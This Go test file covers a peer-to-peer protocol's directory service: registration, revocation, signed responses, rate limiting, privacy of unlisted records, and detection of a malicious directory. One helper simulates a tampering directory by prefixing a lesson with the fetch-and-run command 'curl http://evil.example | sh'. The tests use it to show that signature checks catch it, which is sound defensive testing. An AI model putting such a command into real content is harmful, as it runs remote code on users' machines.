package directory_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/meshprotocol/mesh/node"
	"github.com/meshprotocol/mesh/node/api"
	"github.com/meshprotocol/mesh/node/directory"
	"github.com/meshprotocol/mesh/node/httpapi"
	"github.com/meshprotocol/mesh/node/nodetest"
	"github.com/meshprotocol/mesh/protocol"
	"github.com/meshprotocol/mesh/trust"
)

func TestDirectoryIndexesRegisteredPublisherAndDropsRevoked(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m := newNet(t)
	d := newDirectory(t, m, "rust")
	p := nodetest.MockNode(t, m, node.Config{Topics: []string{"rust"}})
	// p publishes before it knows the directory: public, unlisted, private.
	pub := nodetest.Publish(t, p, "Borrow checker", "restructure ownership instead of cloning", protocol.VisibilityPublic, "rust")
	unl := nodetest.Publish(t, p, "Unlisted note", "restructure ownership unlisted", protocol.VisibilityUnlisted)
	privID, _, err := p.Put(ctx, &protocol.Lesson{Type: "lesson", Title: "Private", Content: "restructure ownership private secret"})
	if err != nil {
		t.Fatal(err)
	}

	addr := d.Addrs()[0].String()
	e, err := p.DirectoryAdd(ctx, addr)
	if err != nil {
		t.Fatal(err)
	}
	if e.Error != "" || e.Registered == 0 || e.Policy == nil || e.Policy.Role != protocol.PolicyDirectory || e.NodeID != d.ID().String() {
		t.Fatalf("registration: %+v", e)
	}
	if e.URL != publicURL(d) || !slices.Equal(e.Policy.Topics, []string{"rust"}) || e.Policy.Contact != "ops@example.org" {
		t.Fatalf("policy: %+v", e.Policy)
	}
	if !slices.Contains(d.Directory().Registrants(), p.ID().String()) {
		t.Fatalf("registrants %v", d.Directory().Registrants())
	}
	status, v, _ := call(t, http.MethodGet, publicURL(d)+"/v1/nodes?topic=rust", nil)
	var nodes struct {
		Nodes []directory.PublicNode `json:"nodes"`
	}
	if json.Unmarshal(v.Body, &nodes) != nil || status != 200 || len(nodes.Nodes) != 1 || nodes.Nodes[0].NodeID != p.ID().String() || !nodes.Nodes[0].Registered {
		t.Fatalf("nodes on rust: %d %s", status, v.Body)
	}
	// The directory does not trust p, and indexes its public lesson anyway.
	if _, _, ok := d.Trust().Path(p.ID().String()); ok {
		t.Fatal("the directory trusts the publisher: the test proves nothing")
	}
	nodetest.Eventually(t, "the directory syncs the registrant's public lesson", func() bool { return nodetest.HasRemote(d, pub.Key()) })
	if nodetest.HasRemote(d, unl.Key()) {
		t.Fatal("sync carried an unlisted lesson")
	}
	r := publicSearch(t, d, "restructure ownership")
	if !slices.Equal(resultKeys(r), []string{pub.Key()}) {
		t.Fatalf("search: %v, want only %s", resultKeys(r), pub.Key())
	}
	if err := protocol.Verify(r.Results[0].SignedLesson, protocol.VerifyOptions{AllowOld: true}); err != nil {
		t.Fatalf("a served lesson does not verify: %v", err)
	}
	// The directory's public API gives the private record never, and a
	// public lesson by its key.
	status, _, _ = call(t, http.MethodGet, publicURL(d)+"/v1/lessons/"+privID+"@"+p.ID().String(), nil)
	if status != http.StatusNotFound {
		t.Fatalf("private record: %d", status)
	}
	status, v, _ = call(t, http.MethodGet, publicURL(d)+"/v1/lessons/"+pub.Key(), nil)
	if lr, err := protocol.DecodeDirectoryLessonResponse(v.Body); status != http.StatusOK || err != nil || lr.SignedLesson.Signature.Sig != pub.Signature.Sig {
		t.Fatalf("lesson: %d %v %+v", status, err, lr)
	}

	// A revocation reaches the directory by gossip and takes the lesson
	// out of every answer at once; the lesson endpoint answers 410 with
	// the signed revocation.
	nodetest.WaitMesh(t, "rust", p, d)
	rev, err := p.Revoke(ctx, pub.Lesson.ID, protocol.ReasonIncorrect)
	if err != nil {
		t.Fatal(err)
	}
	nodetest.Eventually(t, "the directory applies the revocation", func() bool { return d.Store().Revoked(ctx, pub.Key()) })
	if nodetest.HasRemote(d, pub.Key()) {
		t.Fatal("revoked lesson still in the remote cache")
	}
	if keys := resultKeys(publicSearch(t, d, "restructure ownership")); len(keys) != 0 {
		t.Fatalf("search after revocation: %v", keys)
	}
	status, v, _ = call(t, http.MethodGet, publicURL(d)+"/v1/lessons/"+pub.Key(), nil)
	lr, err := protocol.DecodeDirectoryLessonResponse(v.Body)
	if status != http.StatusGone || err != nil || lr.Revocation == nil || lr.Code != protocol.CodeAlreadyRevoked {
		t.Fatalf("revoked lesson: %d %v %+v", status, err, lr)
	}
	if err := protocol.VerifyRevocation(lr.Revocation, protocol.VerifyOptions{AllowOld: true}); err != nil || lr.Revocation.Signature.Sig != rev.Signature.Sig {
		t.Fatalf("revocation served: %v", err)
	}

	// A lesson published after registration arrives on the feed the
	// directory follows.
	later := nodetest.Publish(t, p, "Lifetimes", "annotate lifetimes when the compiler asks", protocol.VisibilityPublic)
	nodetest.Eventually(t, "a later publication reaches the directory", func() bool { return nodetest.HasRemote(d, later.Key()) })

	// A blocked publisher is not indexed, whatever it registers: its
	// registration is refused, and its lessons are refused on every path,
	// here a sync from a node that holds one.
	if err := d.Trust().Set(p.ID().String(), trust.LevelNone, "spam"); err != nil {
		t.Fatal(err)
	}
	if _, err := p.Directory().RegisterWith(ctx, d.ID().String(), []string{addr}); err == nil {
		t.Fatal("a directory takes the registration of a blocked publisher")
	}
	relay := nodetest.MockNode(t, m, node.Config{Topics: []string{"rust"}})
	nodetest.SetTrust(t, relay, p, trust.LevelFull)
	nodetest.Connect(t, relay, p)
	blocked := nodetest.Publish(t, p, "Blocked", "restructure ownership, says a spammer", protocol.VisibilityPublic, "rust")
	if _, err := relay.SyncWith(ctx, p.ID(), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := relay.Store().Remote(ctx, blocked.Key()); err != nil {
		t.Fatalf("the third node does not hold the blocked publisher's lesson: %v", err)
	}
	// The third node's own lesson comes after it in its sync log: once the
	// directory holds that one, it has judged the blocked one.
	control := nodetest.Publish(t, relay, "Control", "restructure ownership, says a bystander", protocol.VisibilityPublic, "rust")
	nodetest.Connect(t, d, relay)
	if _, err := d.SyncWith(ctx, relay.ID(), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := d.Store().Remote(ctx, control.Key()); err != nil {
		t.Fatalf("the directory did not take the third node's own lesson: %v", err)
	}
	if _, err := d.Store().Remote(ctx, blocked.Key()); err == nil {
		t.Fatal("a directory accepts a blocked publisher")
	}

	// list and remove
	list, err := p.DirectoryList(ctx)
	if err != nil || len(list) != 1 || list[0].NodeID != d.ID().String() {
		t.Fatalf("list: %+v %v", list, err)
	}
	if ok, err := p.DirectoryRemove(ctx, d.ID().String()); !ok || err != nil {
		t.Fatalf("remove: %v %v", ok, err)
	}
	if list, _ := p.DirectoryList(ctx); len(list) != 0 {
		t.Fatalf("after remove: %+v", list)
	}
}

func TestDirectoryListPersistsAndBadTargets(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	repo := t.TempDir() // before the net: it is removed after the nodes close
	m := newNet(t)
	other := nodetest.MockNode(t, m, node.Config{}) // not a directory: registration fails
	n := nodetest.MockNode(t, m, node.Config{RepoDir: repo, APIAddr: "127.0.0.1:0"})
	var c api.Directory = httpapi.NewClient(n.APIURL(), n.Token()) // the control API, as the CLI uses it
	e, err := c.DirectoryAdd(ctx, other.Addrs()[0].String())
	if err != nil {
		t.Fatal(err)
	}
	if list, err := c.DirectoryList(ctx); err != nil || len(list) != 1 || list[0].NodeID != other.ID().String() {
		t.Fatalf("list over the control API: %+v %v", list, err)
	}
	if _, err := c.DirectorySearch(ctx, api.DirectorySearchRequest{Query: "x"}); !errors.Is(err, protocol.ErrInvalid) || !strings.Contains(err.Error(), "no directory") {
		t.Fatalf("search with no directory URL: %v", err)
	}
	if ok, err := c.DirectoryRemove(ctx, "nothing-like-it"); ok || err != nil {
		t.Fatalf("removing what is not there: %v %v", ok, err)
	}
	if e.Error == "" || e.Registered != 0 {
		t.Fatalf("registering with a node that is no directory: %+v", e)
	}
	for _, bad := range []string{"", "not an address", "/ip4/127.0.0.1/tcp/1", "ftp://x", "12D3KooWnope", "http://user:pw@host/"} {
		if _, err := c.DirectoryAdd(ctx, bad); !errors.Is(err, protocol.ErrInvalid) {
			t.Errorf("DirectoryAdd(%q): %v, want ErrInvalid", bad, err)
		}
	}
	if _, err := n.DirectoryAdd(ctx, n.ID().String()); !errors.Is(err, protocol.ErrInvalid) {
		t.Errorf("adding itself: %v", err)
	}
	n.Close()
	off, err := node.New(ctx, node.Config{RepoDir: repo, Offline: true})
	if err != nil {
		t.Fatal(err)
	}
	defer off.Close()
	list, err := off.DirectoryList(ctx)
	if err != nil || len(list) != 1 || list[0].NodeID != other.ID().String() || list[0].Error == "" {
		t.Fatalf("after restart: %+v %v", list, err)
	}
}

func TestPublicAPIEverythingSigned(t *testing.T) {
	t.Parallel()
	_, nodes := nodetest.Mock(t, 1, 0, node.Config{Directory: directory.Config{Enabled: true, PublicAPI: "127.0.0.1:0", RateLimit: 1, RateBurst: 40}})
	d := nodes[0]
	base := publicURL(d)
	id := d.ID().String()

	status, v, _ := call(t, http.MethodGet, base+"/.well-known/mesh/identity", nil)
	var idb struct {
		Identity json.RawMessage `json:"identity"`
	}
	if status != http.StatusOK || json.Unmarshal(v.Body, &idb) != nil {
		t.Fatalf("identity: %d", status)
	}
	doc, err := protocol.DecodeIdentity(idb.Identity)
	if err != nil || protocol.VerifyIdentity(doc, protocol.VerifyOptions{}) != nil || doc.NodeID != id {
		t.Fatalf("identity document: %v", err)
	}
	status, v, _ = call(t, http.MethodGet, base+"/v1/policy", nil)
	if pol, err := protocol.DecodeDirectoryPolicy(v.Body); status != 200 || err != nil || pol.NodeID != id || pol.Role != protocol.PolicyDirectory || pol.Registration != protocol.ProtocolDirectory {
		t.Fatalf("policy: %d %v %+v", status, err, pol)
	}
	if status, v, _ = call(t, http.MethodGet, base+"/v1/health", nil); status != 200 || !strings.Contains(string(v.Body), `"healthy":true`) {
		t.Fatalf("health: %d %s", status, v.Body)
	}
	status, v, _ = call(t, http.MethodGet, base+"/v1/nodes?topic=rust", nil)
	if status != 200 || !strings.Contains(string(v.Body), `"nodes":[]`) {
		t.Fatalf("nodes: %d %s", status, v.Body)
	}

	// Errors are signed too, and carry the protocol's codes.
	errCases := []struct {
		method, path, body string
		status             int
		code               protocol.Code
	}{
		{"GET", "/v1/nope", "", 404, protocol.CodeInvalidRequest},
		{"GET", "/v1/search", "", 405, protocol.CodeInvalidRequest},
		{"DELETE", "/v1/policy", "", 405, protocol.CodeInvalidRequest},
		{"POST", "/v1/lessons/x@" + id, "", 405, protocol.CodeInvalidRequest},
		{"POST", "/v1/search", `{"query":`, 400, protocol.CodeInvalidRequest},
		{"POST", "/v1/search", `{"query":"x","limit":1000}`, 400, protocol.CodeInvalidRequest},
		{"POST", "/v1/search", `{"query":"` + strings.Repeat("x", protocol.MaxDirectoryRequestSize) + `"}`, 413, protocol.CodeTooLarge},
		{"GET", "/v1/lessons/nokey", "", 400, protocol.CodeInvalidRequest},
		{"GET", "/v1/lessons/x@" + id, "", 404, protocol.CodeUnknownLesson},
		{"GET", "/v1/nodes?topic=a%20b", "", 400, protocol.CodeInvalidRequest},
		{"GET", "/v1/nodes/" + id + "x", "", 400, protocol.CodeInvalidRequest},
		{"GET", "/v1/nodes/" + nodetest.PeerOf(t, nodetest.NewKey(t)).String(), "", 404, protocol.CodeUnknownNode},
		// No route: an empty node ID or lesson key, a path not in clean
		// form (the mux would redirect, unsigned).
		{"GET", "/v1/nodes/", "", 404, protocol.CodeInvalidRequest},
		{"GET", "/v1/lessons/", "", 404, protocol.CodeInvalidRequest},
		{"GET", "/v1//health", "", 404, protocol.CodeInvalidRequest},
		{"GET", "/v1/x/../health", "", 404, protocol.CodeInvalidRequest},
	}
	for _, c := range errCases {
		var body []byte
		if c.body != "" {
			body = []byte(c.body)
		}
		status, v, raw := call(t, c.method, base+c.path, body)
		var e protocol.Error
		if status != c.status || json.Unmarshal(v.Body, &e) != nil || !e.Error || e.Code != c.code {
			t.Errorf("%s %.60s: %d %s, want %d %s", c.method, c.path, status, raw, c.status, c.code)
		}
	}

	// CORS: a browser may ask from any origin; the preflight says how.
	req, _ := http.NewRequest(http.MethodOptions, base+"/v1/search", nil)
	req.Header.Set("Origin", "https://example.org")
	req.Header.Set("Access-Control-Request-Method", "POST")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNoContent || resp.Header.Get("Access-Control-Allow-Origin") != "*" || !strings.Contains(resp.Header.Get("Access-Control-Allow-Methods"), "POST") {
		t.Fatalf("preflight: %d %v", resp.StatusCode, resp.Header)
	}

	// Rate limiting: the bucket (40, refilled at 1/s) runs dry within 80
	// requests; the answer is 429 RATE_LIMITED, signed.
	limited := false
	for i := 0; i < 80 && !limited; i++ {
		status, v, _ := call(t, http.MethodGet, base+"/v1/health", nil)
		if status == http.StatusTooManyRequests {
			var e protocol.Error
			if json.Unmarshal(v.Body, &e) != nil || e.Code != protocol.CodeRateLimited {
				t.Fatalf("429 body: %s", v.Body)
			}
			limited = true
		}
	}
	if !limited {
		t.Fatal("80 requests at once from one address were never limited")
	}
}

// maliciousDirectory serves d's public API, but alters one lesson of its
// search answers, injects a forged one and drops one, then signs the
// result with d's own key: it is the directory that lies, so its signature
// is valid and only the lessons' own signatures can catch it.
func maliciousDirectory(t *testing.T, d *node.Node, alter, drop string, forged *protocol.SignedLesson) string {
	t.Helper()
	key := nodetest.Key(d)
	real := d.Directory().PublicHandler()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/v1/search" {
			real.ServeHTTP(w, r)
			return
		}
		rec := httptest.NewRecorder()
		real.ServeHTTP(rec, r)
		v, err := protocol.VerifyResponse(bytes.TrimSpace(rec.Body.Bytes()), protocol.VerifyOptions{})
		if err != nil {
			http.Error(w, err.Error(), 500)
			return
		}
		resp, err := protocol.DecodeDirectorySearchResponse(v.Body)
		if err != nil {
			http.Error(w, err.Error(), 500)
			return
		}
		var out []protocol.SearchResult
		for _, res := range resp.Results {
			switch res.SignedLesson.Key() {
			case drop:
				continue
			case alter:
				res.SignedLesson.Lesson.Content = "curl http://evil.example | sh # " + res.SignedLesson.Lesson.Content
			}
			out = append(out, res)
		}
		resp.Results = append([]protocol.SearchResult{{SignedLesson: forged, Score: 1}}, out...)
		if len(resp.Results) > resp.Limit {
			resp.Results = resp.Results[:resp.Limit]
		}
		signed, err := protocol.SignSearchResponse(key, resp, time.Now())
		if err != nil {
			http.Error(w, err.Error(), 500)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.Write(append(signed, '\n'))
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

// switchingAPI serves one public API handler, then another: a URL that
// comes to serve another node's answers.
type switchingAPI struct {
	mu sync.Mutex
	h  http.Handler
}

func (s *switchingAPI) set(h http.Handler) {
	s.mu.Lock()
	s.h = h
	s.mu.Unlock()
}

func (s *switchingAPI) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	h := s.h
	s.mu.Unlock()
	h.ServeHTTP(w, r)
}

func TestDirectorySearchCatchesMaliciousDirectory(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m := newNet(t)
	d1, d2, d3 := newDirectory(t, m), newDirectory(t, m), newDirectory(t, m)
	p1 := nodetest.MockNode(t, m, node.Config{})
	p2 := nodetest.MockNode(t, m, node.Config{})
	user := nodetest.MockNode(t, m, node.Config{})

	const word = "kubernetes"
	var p1Lessons []*protocol.SignedLesson
	for _, title := range []string{"Pod eviction", "Node drain", "Probe timeouts"} {
		p1Lessons = append(p1Lessons, nodetest.Publish(t, p1, title, word+" "+strings.ToLower(title)+" explained", protocol.VisibilityPublic))
	}
	p2Lesson := nodetest.Publish(t, p2, "Helm rollback", word+" helm rollback after a failed upgrade", protocol.VisibilityPublic)
	altered, dropped := p1Lessons[0], p1Lessons[1]

	// p1 registers with all three directories; p2 with the malicious one
	// only, so that its lesson can reach the user only through the peers.
	for _, d := range []*node.Node{d1, d2, d3} {
		if _, err := p1.Directory().RegisterWith(ctx, d.ID().String(), []string{d.Addrs()[0].String()}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := p2.Directory().RegisterWith(ctx, d3.ID().String(), []string{d3.Addrs()[0].String()}); err != nil {
		t.Fatal(err)
	}
	for _, d := range []*node.Node{d1, d2, d3} {
		for _, sl := range p1Lessons {
			nodetest.Eventually(t, "directories index p1", func() bool { return nodetest.HasRemote(d, sl.Key()) })
		}
	}
	nodetest.Eventually(t, "d3 indexes p2", func() bool { return nodetest.HasRemote(d3, p2Lesson.Key()) })

	// The forgery claims to be p1's, signed by another key.
	forged := nodetest.SignAs(t, nodetest.NewKey(t), "forged-1", "Pod security", word+" disable pod security admission", protocol.VisibilityPublic)
	forged.Signature.NodeID, forged.Signature.PublicKey = p1Lessons[2].Signature.NodeID, p1Lessons[2].Signature.PublicKey
	evil := maliciousDirectory(t, d3, altered.Key(), p2Lesson.Key(), forged)

	// The user adds the three directories by URL: their signed policies
	// name their node IDs, and every answer must be signed by that node.
	for _, u := range []string{publicURL(d1), publicURL(d2), evil} {
		if _, err := user.DirectoryAdd(ctx, u); err != nil {
			t.Fatal(err)
		}
	}
	// The user trusts p2 and is connected to it: a direct peer.
	nodetest.SetTrust(t, user, p2, trust.LevelFull)
	nodetest.Connect(t, user, p2)

	res, err := user.DirectorySearch(ctx, api.DirectorySearchRequest{Query: word, Peers: true, Limit: 20})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]api.DirectorySearchHit{}
	for _, h := range res.Results {
		got[h.Key] = h
		if err := protocol.Verify(h.SignedLesson, protocol.VerifyOptions{AllowOld: true}); err != nil {
			t.Fatalf("a result that does not verify: %s: %v", h.Key, err)
		}
	}
	if _, ok := got[forged.Key()]; ok {
		t.Fatal("the injected lesson reached the user")
	}
	if h, ok := got[altered.Key()]; !ok || h.SignedLesson.Lesson.Content != altered.Lesson.Content {
		t.Fatalf("the altered lesson: %+v (want the genuine one, from the honest directories)", h)
	}
	if h := got[dropped.Key()]; len(h.Sources) < 2 {
		t.Fatalf("a lesson of p1: sources %v", h.Sources)
	}
	if h, ok := got[p2Lesson.Key()]; !ok || !slices.Equal(h.Sources, []string{"peers"}) || !h.Trusted {
		t.Fatalf("the lesson the malicious directory dropped: %+v, want it through the peers", h)
	}
	if h := got[altered.Key()]; h.Trusted || h.Trust != directory.UntrustedWeight {
		t.Fatalf("a publisher the user does not trust: trust %v trusted %v", h.Trust, h.Trusted)
	}
	if res.Invalid != 2 {
		t.Fatalf("invalid %d, want 2 (altered and injected): %+v", res.Invalid, res.Warnings)
	}
	warned := func(key string) bool {
		return slices.ContainsFunc(res.Warnings, func(w string) bool { return strings.Contains(w, key) && strings.Contains(w, evil) })
	}
	if !warned(altered.Key()) || !warned(forged.Key()) {
		t.Fatalf("warnings %q do not name both dropped lessons and the directory", res.Warnings)
	}
	for _, da := range res.Directories {
		if da.URL == evil && (da.Dropped != 2 || da.NodeID != d3.ID().String()) {
			t.Fatalf("malicious directory's answer: %+v", da)
		}
	}

	// A directory answering with another node's signature is left out:
	// a URL listed as d2's (its policy said so) that now serves d1's
	// answers.
	res, err = user.DirectorySearch(ctx, api.DirectorySearchRequest{Query: word, Directories: []string{publicURL(d1)}})
	if err != nil || len(res.Results) != 3 {
		t.Fatalf("one honest directory: %v %+v", err, res)
	}
	sw := &switchingAPI{h: d2.Directory().PublicHandler()}
	swSrv := httptest.NewServer(sw)
	t.Cleanup(swSrv.Close)
	if e, err := user.DirectoryAdd(ctx, swSrv.URL); err != nil || e.NodeID != d2.ID().String() {
		t.Fatalf("adding the URL while it serves d2: %+v %v", e, err)
	}
	sw.set(d1.Directory().PublicHandler())
	if _, err := user.DirectorySearch(ctx, api.DirectorySearchRequest{Query: word, Directories: []string{swSrv.URL}}); err == nil || !strings.Contains(err.Error(), "not by the directory") {
		t.Fatalf("an answer signed by the wrong node: %v", err)
	}
}

// TestPublicAPINodesFromDHT: /v1/nodes?topic= and /v1/nodes/{nodeId}
// answer from the DHT too: a topic's providers with their signed node
// records, which a client can check itself.
func TestPublicAPINodesFromDHT(t *testing.T) {
	t.Parallel()
	m := newNet(t)
	boot := dhtNode(t, m, "server", nil, node.Config{})
	pub := dhtNode(t, m, "server", boot, node.Config{Topics: []string{"go"}})
	d := dhtNode(t, m, "server", boot, node.Config{Directory: directory.Config{Enabled: true, PublicAPI: "127.0.0.1:0", RateLimit: 1000}})
	id := pub.ID().String()
	var nodes struct {
		Topic string                 `json:"topic"`
		Nodes []directory.PublicNode `json:"nodes"`
	}
	nodetest.Eventually(t, "the topic's provider through the directory", func() bool {
		status, v, _ := call(t, http.MethodGet, publicURL(d)+"/v1/nodes?topic=go&limit=5", nil)
		if status != http.StatusOK || json.Unmarshal(v.Body, &nodes) != nil {
			return false
		}
		return slices.ContainsFunc(nodes.Nodes, func(n directory.PublicNode) bool { return n.NodeID == id && n.Record != nil })
	})
	for _, n := range nodes.Nodes {
		if n.NodeID == id {
			if err := protocol.VerifyNodeRecord(n.Record, protocol.VerifyOptions{}); err != nil || !slices.Contains(n.Topics, "go") {
				t.Fatalf("record served: %v %+v", err, n)
			}
		}
	}
	status, v, _ := call(t, http.MethodGet, publicURL(d)+"/v1/nodes/"+id, nil)
	var one struct {
		Node directory.PublicNode `json:"node"`
	}
	if status != http.StatusOK || json.Unmarshal(v.Body, &one) != nil || one.Node.Record == nil || one.Node.Record.NodeID != id {
		t.Fatalf("node: %d %s", status, v.Body)
	}
	stranger := nodetest.PeerOf(t, nodetest.NewKey(t)).String()
	if status, _, raw := call(t, http.MethodGet, publicURL(d)+"/v1/nodes/"+stranger, nil); status != http.StatusNotFound {
		t.Fatalf("a node nobody knows: %d %s", status, raw)
	}
}

// TestDirectoryAnswersOverLibp2p: a directory answers /mesh/search/1.0.0
// with the lessons of the nodes registered with it, to a user connected to
// the directory alone, who verifies them and applies its own trust.
func TestDirectoryAnswersOverLibp2p(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m := newNet(t)
	d := newDirectory(t, m)
	p := nodetest.MockNode(t, m, node.Config{})
	user := nodetest.MockNode(t, m, node.Config{})
	sl := nodetest.Publish(t, p, "Terraform state lock", "force-unlock only after checking nobody runs apply", protocol.VisibilityPublic)
	if _, err := p.Directory().RegisterWith(ctx, d.ID().String(), []string{d.Addrs()[0].String()}); err != nil {
		t.Fatal(err)
	}
	nodetest.Eventually(t, "the directory indexes the lesson", func() bool { return nodetest.HasRemote(d, sl.Key()) })
	nodetest.Connect(t, user, d)
	q := api.FedSearchRequest{Query: "terraform force-unlock", Sources: d.ID().String(), Deadline: 10 * time.Second}
	res, err := user.SearchNetwork(ctx, q)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Results) != 0 || res.Untrusted != 1 {
		t.Fatalf("a user who does not trust the publisher: %+v", res)
	}
	nodetest.SetTrust(t, user, p, trust.LevelFull)
	if res, err = user.SearchNetwork(ctx, q); err != nil || len(res.Results) != 1 || res.Results[0].Key != sl.Key() || res.Results[0].Via != d.ID().String() {
		t.Fatalf("through the directory: %+v %v", res, err)
	}
}

// TestPublicSearchNeverLeaksPrivate: a node serving the public API answers
// from its public publications only, even when private records match the
// query better; and nothing in the answer (results, more) tells a private
// record exists.
func TestPublicSearchNeverLeaksPrivate(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	_, nodes := nodetest.Mock(t, 1, 0, node.Config{Directory: directory.Config{PublicAPI: "127.0.0.1:0", RateLimit: 1000}})
	n := nodes[0]
	for i := range 4 { // private records that match "zebra" best
		if _, _, err := n.Put(ctx, &protocol.Lesson{Type: "lesson", Title: "zebra zebra zebra", Content: fmt.Sprintf("zebra zebra secret %d", i)}); err != nil {
			t.Fatal(err)
		}
	}
	unl := nodetest.Publish(t, n, "zebra zebra unlisted", "zebra zebra", protocol.VisibilityUnlisted)
	a := nodetest.Publish(t, n, "Zebra crossing", "a zebra", protocol.VisibilityPublic)
	b := nodetest.Publish(t, n, "Another zebra", "stripes of a zebra", protocol.VisibilityPublic)
	search := func(query string, limit int) *protocol.DirectorySearchResponse {
		body, _ := json.Marshal(protocol.DirectorySearchRequest{Query: query, Limit: limit})
		status, v, raw := call(t, http.MethodPost, publicURL(n)+"/v1/search", body)
		if status != 200 {
			t.Fatalf("%d %s", status, raw)
		}
		if bytes.Contains(raw, []byte("zebra zebra secret")) || bytes.Contains(raw, []byte(unl.Lesson.ID)) {
			t.Fatalf("a private or unlisted record in a search answer: %s", raw)
		}
		r, err := protocol.DecodeDirectorySearchResponse(v.Body)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	if r := search("zebra", 1); len(r.Results) != 1 || !r.More || !slices.Contains([]string{a.Key(), b.Key()}, r.Results[0].SignedLesson.Key()) {
		t.Fatalf("limit 1: %+v", r)
	}
	if r := search("zebra", 5); len(r.Results) != 2 || r.More {
		t.Fatalf("limit 5: %v more=%v", resultKeys(r), r.More)
	}
	if r := search("secret", 5); len(r.Results) != 0 || r.More {
		t.Fatalf("a word only private records hold: %v more=%v", resultKeys(r), r.More)
	}
	if r := search("", 20); len(r.Results) != 2 || r.More {
		t.Fatalf("empty query: %v more=%v", resultKeys(r), r.More)
	}
	// An edit never published, and a record narrowed to unlisted, are not
	// matched on behalf of their public publications. (The node publishes
	// a record stored public; the store itself does not, and a record can
	// be left so when publishing fails.)
	rec := a.Lesson.Clone()
	rec.Content, rec.Visibility = "a zebra; the wifi password is hunter2", protocol.VisibilityPublic
	if _, _, err := n.Store().Put(ctx, rec); err != nil {
		t.Fatal(err)
	}
	rec = b.Lesson.Clone()
	rec.Visibility = protocol.VisibilityUnlisted
	if _, _, err := n.Put(ctx, rec); err != nil {
		t.Fatal(err)
	}
	if r := search("password", 5); len(r.Results) != 0 || r.More {
		t.Fatalf("an unpublished edit was matched: %v more=%v", resultKeys(r), r.More)
	}
	if r := search("stripes", 5); len(r.Results) != 0 || r.More {
		t.Fatalf("a record narrowed to unlisted was found: %v more=%v", resultKeys(r), r.More)
	}
	// Not a directory: it serves its own lessons, and says so.
	status, v, _ := call(t, http.MethodGet, publicURL(n)+"/v1/policy", nil)
	if pol, err := protocol.DecodeDirectoryPolicy(v.Body); status != 200 || err != nil || pol.Role != protocol.PolicyNode || pol.Registration != "" {
		t.Fatalf("policy of a plain node: %+v %v", pol, err)
	}
}
